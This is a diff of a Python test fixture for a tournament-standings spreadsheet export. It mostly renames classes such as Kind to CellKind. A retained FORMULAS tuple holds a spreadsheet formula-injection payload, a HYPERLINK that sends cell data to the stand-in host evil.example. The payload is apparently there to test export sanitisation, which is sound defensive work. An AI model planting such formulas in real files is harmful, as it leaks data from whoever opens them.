@@ -5,7 +5,15 @@ from collections.abc import Iterable
 from datetime import UTC, date, datetime
 from fractions import Fraction
 
-from tournaments.tables.sheets import Column, Kind, Properties, Rank, Row, Sheet, Workbook
+from tournaments.tables.sheets import (
+    CellKind,
+    Column,
+    Properties,
+    RankCell,
+    Row,
+    TableSheet,
+    Workbook,
+)
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
@@ -96,14 +104,14 @@ NAMES = (
     "",
 )
 COLUMNS = (
-    Column(name="Rank", key="rank", kind=Kind.RANK),
+    Column(name="Rank", key="rank", kind=CellKind.RANK),
     Column(name="Name", key="name"),
-    Column(name="Points", key="points", kind=Kind.EXACT),
-    Column(name="Balance", key="balance", kind=Kind.MONEY, currency="EUR"),
-    Column(name="Hands", key="hands", kind=Kind.WHOLE),
-    Column(name="Joined", key="joined", kind=Kind.DAY),
-    Column(name="Seen", key="seen", kind=Kind.MOMENT),
-    Column(name="Paid", key="paid", kind=Kind.FLAG),
+    Column(name="Points", key="points", kind=CellKind.EXACT),
+    Column(name="Balance", key="balance", kind=CellKind.MONEY, currency="EUR"),
+    Column(name="Hands", key="hands", kind=CellKind.WHOLE),
+    Column(name="Joined", key="joined", kind=CellKind.DAY),
+    Column(name="Seen", key="seen", kind=CellKind.MOMENT),
+    Column(name="Paid", key="paid", kind=CellKind.FLAG),
 )
 AT = datetime(2025, 11, 21, 19, 30, tzinfo=UTC)
 
@@ -112,7 +120,7 @@ def rows(names: Iterable[str] = NAMES) -> list[Row]:
     """One row for each name, with a cell of every kind."""
     return [
         (
-            Rank(place // 2 + 1, place % 3 == 0),
+            RankCell(place // 2 + 1, place % 3 == 0),
             name,
             Fraction(place - 5, 3),
             -125 * place,
@@ -127,5 +135,5 @@ def rows(names: Iterable[str] = NAMES) -> list[Row]:
 
 def workbook(names: Iterable[str] = NAMES) -> Workbook:
     """Make a workbook of one sheet of them."""
-    sheet = Sheet("Standings", COLUMNS, rows(names))
+    sheet = TableSheet("Standings", COLUMNS, rows(names))
     return Workbook((sheet,), Properties(title="League & <friends>", made_at=AT))
